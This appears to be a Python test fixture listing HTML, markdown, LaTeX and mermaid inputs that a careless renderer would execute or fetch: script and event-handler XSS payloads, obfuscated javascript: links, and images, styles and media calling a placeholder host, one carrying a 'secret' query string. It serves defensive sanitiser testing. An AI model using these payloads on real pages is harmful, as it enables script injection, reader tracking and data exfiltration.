"""Words that would run a script or call another server, if a page rendered them carelessly.

`CANARY` stands for the address of a server that must never be asked. A script that runs sets `window.__ran`.
"""

CANARY = "http://canary.invalid"
RUN = "window.__ran=1"

MARKUP = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<form action={CANARY}><button>送る</button></form>",
    f"<a href='javascript:{RUN}'>開く</a>",
    f"<style>@import '{CANARY}/style.css';</style>",
    f"<link rel=stylesheet href={CANARY}/link.css>",
    f"<meta http-equiv=refresh content='0;url={CANARY}'>",
    f"<base href={CANARY}/>",
    f"<object data={CANARY}/object></object><embed src={CANARY}/embed>",
    f"<video src={CANARY}/film poster={CANARY}/poster autoplay></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<body onload={RUN}>",
)
LINKS = (
    f"[開く](javascript:{RUN})",
    f"[開く](JaVaScRiPt:{RUN})",
    f"[開く](&#106;avascript:{RUN})",
    f"[開く](java\u0000script:{RUN})",
    f"[開く](data:text/html,<script>{RUN}</script>)",
    f"[開く](vbscript:{RUN})",
    f"[열기][참조]\n\n[참조]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f'[打开](https://example.org "\\" onmouseover=\\"{RUN}")',
    f"`<img src=x onerror={RUN}>`",
    f'```html" onload="{RUN}\n<script>{RUN}</script>\n```',
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\includegraphics{{{CANARY}/tex}}$$",
    f'```mermaid\ngraph TD; A-->B; click A href "javascript:{RUN}"\n```',
)
PICTURES = (
    f"![読む人を数える]({CANARY}/pixel.png)",
    f"![reference][pixel]\n\n[pixel]: {CANARY}/reference.png",
    f"[![linked]({CANARY}/linked.png)](https://example.org)",
    f"<img src='{CANARY}/raw.png' srcset='{CANARY}/set.png 2x'>",
    "![protocol](//canary.invalid/relative.png)",
    f"<picture><source srcset={CANARY}/source.png><img></picture>",
    f"<div style='background:url({CANARY}/style.png)'>그림</div>",
    f"<audio src={CANARY}/sound preload=auto></audio>",
    '![](https://canary.invalid/a.png?q=secret "图")',
)
EVERYTHING = (*MARKUP, *LINKS, *PICTURES)
